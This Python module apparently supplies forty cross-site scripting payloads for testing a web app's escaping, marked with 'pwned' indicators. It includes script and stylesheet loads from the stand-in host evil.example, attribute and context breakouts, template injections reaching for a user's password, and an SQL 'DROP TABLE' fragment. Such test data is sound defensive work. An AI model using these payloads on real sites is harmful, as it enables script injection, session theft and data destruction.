"""Forty payloads for cross-site scripting.

A payload that is not escaped sets `window.pwned`, opens a dialog, or adds an element named `pwned`. Each fits
into the shortest field that takes untrusted text (64 characters).
"""

from __future__ import annotations

TAG = "injected"  # precedes each payload in transcripts, so that a search finds all

# Elements that execute code
ELEMENTS = (
    "<script>pwned=1;alert(1)</script>",
    "<ScRiPt src=//evil.example/pwned.js></sCrIpT>",
    "</script><script>alert(`pwned`)</script>",
    "<img src=x id=pwned onerror=alert(1)>",
    "<svg onload=alert(1) id=pwned>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe id=pwned srcdoc='<script>parent.pwned=1</script>'>",
    "<details open ontoggle=alert(1) id=pwned>",
    "<input autofocus onfocus=alert(1) id=pwned>",
    "<video id=pwned><source onerror=alert(1)></video>",
    "<math><mi id=pwned xlink:href='javascript:alert(1)'>x</mi>",
    "<a id=pwned href='javascript:alert(1)'>click</a>",
    "<form id=pwned action='javascript:alert(1)'><button>go",
    "<object id=pwned data='javascript:alert(1)'></object>",
    "<meta http-equiv=refresh content='0;url=//e.example' id=pwned>",
    "<base href='//evil.example/' id=pwned>",
    "<link id=pwned rel=stylesheet href=//evil.example/a.css>",
    "<style id=pwned>*{background:url(//evil.example)}</style>",
    "<template id=pwned><b>x</b></template><marquee onstart=alert(1)>",
)
# Breaking out of an attribute, a script, a comment, a text area
BREAKOUTS = (
    '" onmouseover="alert(1)" id="pwned',
    "' onfocus='alert(1)' autofocus id='pwned",
    '"><img src=x id=pwned onerror=alert(1)>',
    "'><svg id=pwned onload=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><img src=x id=pwned onerror=alert(1)>",
    "</time></span></td><td id=pwned>",
    "javascript:alert(document.domain)//pwned",
    "data:text/html,<script>alert(1)</script>",
)
# Template syntax: Django's, Alpine's, htmx's
TEMPLATES = (
    "{{ 7|add:7 }}{% debug %}{{ request.user.password }}",
    "${alert(1)}#{alert(1)}{{constructor.constructor('alert(1)')()}}",
    "<div id=pwned x-data x-init='alert(1)'></div>",
    "<div id=pwned hx-get=/admin/ hx-trigger=load></div>",
)
# Entities, encodings, text direction
ENCODINGS = (
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b id=pwned&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E \\u003cimg id=pwned\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e <\u0130mg id=pwned>",
    "\u202e<script>alert(1)</script>\u202c \u2066pwned\u2069",
    "null undefined NaN '; DROP TABLE calls_call; -- \u200b\ufeff",
)
PAYLOADS: tuple[str, ...] = ELEMENTS + BREAKOUTS + TEMPLATES + ENCODINGS
